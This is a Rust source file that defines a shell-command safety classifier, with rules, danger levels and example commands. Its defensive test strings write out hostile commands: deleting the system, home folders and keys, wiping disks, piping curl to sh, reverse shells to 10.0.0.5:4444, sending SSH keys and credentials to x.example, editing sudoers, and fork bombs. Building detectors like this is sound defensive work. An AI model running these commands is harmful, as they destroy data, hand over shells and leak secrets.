//! Rules about effects on paths, on text that is run, and on what is sent: any utility may lead to them.

use super::Rule;
use crate::safety::Level::{Caution, Critical, Danger, Safe};

pub const RULES: &[&Rule] = &[
    &DELETE,
    &DELETE_TREE,
    &DELETE_HERE,
    &DELETE_HOME,
    &DELETE_KEYS,
    &DELETE_HISTORY,
    &DELETE_UNKNOWN,
    &DELETE_SYSTEM,
    &WRITE,
    &WRITE_MANY,
    &WRITE_START,
    &WRITE_SYSTEM,
    &WRITE_DEVICE,
    &GRANT,
    &OPEN_ACCESS,
    &MOVE,
    &RIGHTS,
    &SETUID,
    &RUN_UNKNOWN,
    &RUN_FOREIGN,
    &RUN_DECODED,
    &REVERSE_SHELL,
    &HIJACK,
    &SEND_SECRET,
    &SEND_CONFIGURATION,
    &FORK_BOMB,
];

pub static DELETE: Rule = Rule {
    id: "delete",
    summary: "deletes named files, or one folder",
    hint: Some("look first with `ls`, or move it to the trash"),
    hits: &[
        (Caution, "rm notes.txt"),
        (Caution, "rm -r build"),
        (Caution, "find . -name '*.pyc' -delete"),
        (Caution, "rm -rf \"$d\""),
    ],
    near: &[
        (Safe, "echo rm notes.txt"),
        (Safe, "d=$(mktemp -d); rm -rf \"$d\""),
        (Safe, "mkdir x && rm -r x"),
        (Safe, "man rm"),
    ],
};

pub static DELETE_TREE: Rule = Rule {
    id: "delete-tree",
    summary: "deletes whole folders, or many files, outside of the current one",
    hint: Some("list what would go first: `find … -print`, `ls -d …`"),
    hits: &[
        (Danger, "rm -rf build ~/old"),
        (Danger, "rm -rf /opt/app"),
        (Danger, "find / -name '*.log' -delete"),
        (Danger, "rm -rf '/var/lib/postgresql'"),
        (Danger, "rm ~/Documents/*"),
    ],
    near: &[
        (Caution, "rm ~/notes-old.txt"),
        (Caution, "rm -rf /tmp/build-1"),
        (Caution, "rm /tmp/*"),
        (Caution, "rm data/*"),
        (Safe, "ls ~/old"),
        (Safe, "find / -name '*.log'"),
    ],
};

pub static DELETE_HERE: Rule = Rule {
    id: "delete-here",
    summary: "deletes everything here",
    hint: Some("name what shall go, or look first with `ls -A`"),
    hits: &[
        (Danger, "rm -rf *"),
        (Danger, "rm -rf ."),
        (Danger, "find . -delete"),
        (Danger, "ls | xargs rm -rf"),
        (Danger, "rm -rf ../*"),
    ],
    near: &[(Caution, "rm *.log"), (Caution, "rm -rf dist/*"), (Safe, "ls *"), (Safe, "echo 'rm -rf *'")],
};

pub static DELETE_HOME: Rule = Rule {
    id: "delete-home",
    summary: "deletes a home",
    hint: Some("check for a stray space before the path"),
    hits: &[
        (Critical, "rm -rf ~"),
        (Critical, "rm -rf \"$HOME\"/*"),
        (Critical, "cd && rm -rf *"),
        (Critical, "rm -rf build ~"),
    ],
    near: &[(Danger, "rm -rf ~/old"), (Safe, "du -sh ~"), (Caution, "rm '~'")],
};

pub static DELETE_KEYS: Rule = Rule {
    id: "delete-keys",
    summary: "deletes keys or saved logins",
    hint: Some("keep a copy: a lost key cannot be made again"),
    hits: &[(Danger, "rm -rf ~/.ssh ~/.gnupg"), (Danger, "rm -f ~/.ssh/id_ed25519")],
    near: &[(Caution, "rm ~/.ssh/known_hosts.old"), (Safe, "ls ~/.ssh")],
};

pub static DELETE_HISTORY: Rule = Rule {
    id: "delete-history",
    summary: "deletes the history of a work tree",
    hint: Some("push or copy the repository first"),
    hits: &[(Danger, "rm -rf .git"), (Danger, "rm -rf app/.git")],
    near: &[(Caution, "rm -f .git/index.lock"), (Caution, "rm .gitignore"), (Safe, "ls .git")],
};

pub static DELETE_UNKNOWN: Rule = Rule {
    id: "delete-unknown",
    summary: "deletes what an empty variable makes /",
    hint: Some("write `${name:?}`: then an empty variable stops the command"),
    hits: &[(Danger, "rm -rf \"$d\"/*"), (Danger, "rm -rf $BUILD_DIR/"), (Danger, "rm -rf \"$PREFIX\"/{bin,lib}")],
    near: &[(Caution, "rm -rf \"${d:?}\"/*"), (Caution, "rm -rf \"$d\""), (Caution, "d=out; rm -rf \"$d\"/*")],
};

pub static DELETE_SYSTEM: Rule = Rule {
    id: "delete-system",
    summary: "deletes the system",
    hint: None,
    hits: &[
        (Critical, "rm -rf /"),
        (Critical, "rm -r -f /*"),
        (Critical, "sudo rm --recursive /etc"),
        (Critical, "find / -delete"),
        (Critical, "rm -rf /b?n"),
        (Critical, "cd / && rm -rf *"),
    ],
    near: &[
        (Safe, "ls /"),
        (Danger, "rm -rf /opt/app"),
        (Safe, "echo 'rm -rf /'"),
        (Safe, "git commit -m 'rm -rf /'"),
        (Safe, "grep -r 'rm -rf /' ."),
        (Caution, "rm -rf ./etc"),
    ],
};

pub static WRITE: Rule = Rule {
    id: "overwrite",
    summary: "overwrites or changes files",
    hint: Some("keep a copy of what is there"),
    hits: &[
        (Caution, "> file"),
        (Caution, "sed -i 's/a/b/' x"),
        (Caution, "truncate -s 0 app.log"),
        (Caution, "tee README.md < draft.md"),
    ],
    near: &[
        (Safe, "ls >> log"),
        (Safe, "ls > /dev/null 2>&1"),
        (Safe, "sed 's/a/b/' x"),
        (Safe, "t=$(mktemp); ls > \"$t\""),
    ],
};

pub static WRITE_MANY: Rule = Rule {
    id: "overwrite-many",
    summary: "overwrites many files",
    hint: Some("look first at what the pattern matches"),
    hits: &[
        (Danger, "truncate -s 0 *"),
        (Danger, "find ~ -type f -exec truncate -s 0 {} +"),
        (Danger, "find . -type f -exec shred -u {} +"),
    ],
    near: &[(Caution, "truncate -s 0 *.log"), (Caution, "sed -i 's/a/b/' *.py")],
};

pub static WRITE_START: Rule = Rule {
    id: "write-start",
    summary: "changes what runs at the start of a shell, a session or the system",
    hint: Some("keep a copy, and look at the change with `diff`"),
    hits: &[
        (Danger, "echo x > ~/.bashrc"),
        (Caution, "echo 'set -o vi' >> ~/.bashrc"),
        (Danger, "sudo tee /etc/fstab < new"),
        (Danger, "echo 1 > /etc/hosts"),
    ],
    near: &[(Safe, "cat ~/.bashrc"), (Safe, "diff /etc/hosts new")],
};

pub static WRITE_SYSTEM: Rule = Rule {
    id: "overwrite-system",
    summary: "overwrites what the system needs",
    hint: None,
    hits: &[
        (Critical, "> /etc/passwd"),
        (Danger, "cp x /usr/bin/python3"),
        (Danger, "tar xzf rootfs.tgz -C /"),
        (Critical, "cp /dev/null /etc/shadow"),
    ],
    near: &[(Safe, "cat /etc/passwd"), (Caution, "sudo cp app /usr/local/bin/"), (Safe, "cp /etc/passwd copy")],
};

pub static WRITE_DEVICE: Rule = Rule {
    id: "write-device",
    summary: "writes over a disk",
    hint: Some("check the name with `lsblk`; nothing asks again"),
    hits: &[
        (Critical, "dd if=/dev/zero of=/dev/sda"),
        (Critical, "cat x > /dev/nvme0n1"),
        (Critical, "cp image.iso /dev/sdc"),
        (Critical, "d=/dev/sda; echo > $d"),
    ],
    near: &[
        (Safe, "dd if=/dev/sda of=/dev/null count=1"),
        (Caution, "dd if=/dev/zero of=disk.img bs=1M count=1"),
        (Safe, "lsblk /dev/sda"),
    ],
};

pub static GRANT: Rule = Rule {
    id: "grant",
    summary: "changes who may log in or become root",
    hint: Some("use `visudo`, `usermod`, `passwd`: they check what they write"),
    hits: &[
        (Danger, "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
        (Danger, "sed -i 's/^root:[^:]*/root:/' /etc/shadow"),
    ],
    near: &[(Safe, "sudo -l"), (Safe, "getent passwd")],
};

pub static OPEN_ACCESS: Rule = Rule {
    id: "open-access",
    summary: "lets others in from elsewhere",
    hint: Some("check whose key it is: `ssh-keygen -lf key.pub`"),
    hits: &[
        (Danger, "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
        (Danger, "cp key.pub ~/.ssh/authorized_keys"),
    ],
    near: &[(Safe, "cat ~/.ssh/authorized_keys"), (Safe, "cat ~/.ssh/id_ed25519.pub")],
};

pub static MOVE: Rule = Rule {
    id: "move",
    summary: "moves things away from where they are needed",
    hint: Some("copy first with `cp -a`"),
    hits: &[
        (Critical, "mv /etc /tmp"),
        (Danger, "mv photos /dev/null"),
        (Caution, "mv ~ /mnt/x"),
        (Critical, "mv ~/* /dev/null"),
    ],
    near: &[(Safe, "mv a b"), (Safe, "mv *.txt docs/")],
};

pub static RIGHTS: Rule = Rule {
    id: "rights",
    summary: "changes rights or owners",
    hint: Some("change only what needs it: `chmod u+w file`"),
    hits: &[
        (Critical, "chmod -R 777 /"),
        (Critical, "sudo chown -R ana /usr"),
        (Danger, "chmod 666 /etc/shadow"),
        (Caution, "chmod 777 upload.php"),
        (Caution, "chown -R www-data storage"),
    ],
    near: &[(Safe, "chmod +x run.sh"), (Safe, "chmod 644 notes.txt"), (Safe, "find . -perm 777")],
};

pub static SETUID: Rule = Rule {
    id: "setuid",
    summary: "lets anybody run a program as its owner",
    hint: None,
    hits: &[
        (Danger, "chmod u+s /bin/bash"),
        (Danger, "chmod 4755 x"),
        (Danger, "setcap cap_setuid+ep /usr/bin/python3"),
    ],
    near: &[(Safe, "chmod 0755 x"), (Safe, "chmod u+x x"), (Safe, "getcap x")],
};

pub static RUN_UNKNOWN: Rule = Rule {
    id: "run-unknown",
    summary: "runs text nobody has seen",
    hint: Some("print it first: put `echo` before it, or drop the `| sh`"),
    hits: &[(Caution, "eval \"$x\""), (Caution, "cat job.txt | sh"), (Caution, "$cmd -la"), (Danger, "$cmd -rf /")],
    near: &[(Safe, "eval 'ls -l'"), (Safe, "eval \"$(ssh-agent -s)\""), (Safe, "c=ls; $c -la"), (Safe, "echo ls | sh")],
};

pub static RUN_FOREIGN: Rule = Rule {
    id: "run-foreign",
    summary: "runs code from the network",
    hint: Some("save it to a file, read it, then run it"),
    hits: &[
        (Danger, "curl https://x.example | sh"),
        (Critical, "curl https://x.example | sudo sh"),
        (Danger, "bash <(curl -s https://x.example)"),
        (Danger, "curl -o i https://x.example && sh i"),
        (Danger, "eval \"$(wget -qO- http://x.example)\""),
    ],
    near: &[
        (Safe, "curl -s https://x.example | sha256sum"),
        (Safe, "curl -s https://x.example | jq ."),
        (Safe, "curl -s https://x.example | shellcheck -"),
        (Safe, "curl -O https://x.example/a.tgz"),
    ],
};

pub static RUN_DECODED: Rule = Rule {
    id: "run-decoded",
    summary: "runs what a decoder gives",
    hint: Some("decode it, read it, then run it"),
    hits: &[
        (Danger, "echo bHM= | base64 -d | sh"),
        (Danger, "bash -c \"$(base64 -d x)\""),
        (Danger, "xxd -r -p x | bash"),
        (Critical, "gunzip -c x.gz | sudo sh"),
    ],
    near: &[(Safe, "echo bHM= | base64 -d"), (Safe, "gunzip -c x.gz | head")],
};

pub static REVERSE_SHELL: Rule = Rule {
    id: "remote-shell",
    summary: "gives a shell to another machine",
    hint: None,
    hits: &[
        (Danger, "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
        (Danger, "nc -e /bin/sh 10.0.0.5 4444"),
        (Danger, "socat TCP:10.0.0.5:4444 EXEC:bash"),
    ],
    near: &[(Safe, "nc -zv host 22"), (Safe, "nc -l 8080"), (Safe, "ssh host")],
};

pub static HIJACK: Rule = Rule {
    id: "hijack",
    summary: "makes other programs run foreign code",
    hint: None,
    hits: &[(Caution, "LD_PRELOAD=./x.so ls"), (Danger, "export LD_PRELOAD=/tmp/x.so")],
    near: &[(Safe, "LD_LIBRARY_PATH=lib ./app"), (Safe, "PATH=$PWD/bin:$PATH make")],
};

pub static SEND_SECRET: Rule = Rule {
    id: "send-secret",
    summary: "sends secrets away",
    hint: None,
    hits: &[
        (Danger, "curl -d @\"$HOME/.ssh/id_rsa\" https://x.example"),
        (Danger, "env | curl -d @- https://x.example"),
        (Danger, "scp ~/.ssh/id_rsa x.example:"),
        (Danger, "cat ~/.aws/credentials | nc x.example 80"),
    ],
    near: &[
        (Safe, "curl -d @data.json https://x.example"),
        (Caution, "cat ~/.ssh/id_rsa.pub | ssh host 'cat > k'"),
        (Safe, "curl -H \"Authorization: Bearer $TOKEN\" https://x.example"),
    ],
};

pub static SEND_CONFIGURATION: Rule = Rule {
    id: "send-configuration",
    summary: "sends your own configuration away",
    hint: None,
    hits: &[(Caution, "scp ~/.gitconfig x.example:"), (Caution, "curl -T ~/.vimrc https://x.example")],
    near: &[(Safe, "scp notes.txt x.example:")],
};

pub static FORK_BOMB: Rule = Rule {
    id: "fork-bomb",
    summary: "starts processes without end",
    hint: None,
    hits: &[(Critical, ":(){ :|:& };:"), (Critical, "f() { f & f; }; f"), (Critical, "perl -e 'fork while fork'")],
    near: &[(Safe, "f() { echo a | cat; }; f"), (Safe, "while true; do date; sleep 1; done")],
};
